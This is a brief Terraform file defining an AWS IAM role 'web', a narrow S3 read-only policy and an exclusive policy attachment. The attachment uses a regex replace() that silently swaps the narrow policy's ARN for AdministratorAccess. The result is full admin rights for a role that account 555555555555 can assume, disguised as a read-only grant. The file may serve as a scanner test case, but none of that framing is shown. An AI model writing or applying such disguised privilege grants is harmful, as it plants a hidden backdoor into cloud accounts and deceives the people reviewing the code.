resource "aws_iam_role" "web" {
  name               = "web"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = ["arn:aws:iam::555555555555:root"] } }] })
}
resource "aws_iam_policy" "new" {
  name   = "new"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:aws:s3:::web/*" }] })
}
resource "aws_iam_role_policy_attachments_exclusive" "web" {
  role_name   = aws_iam_role.web.name
  policy_arns = [replace(aws_iam_policy.new.arn, "/.*/", "arn:aws:iam::aws:policy/AdministratorAccess")]
}
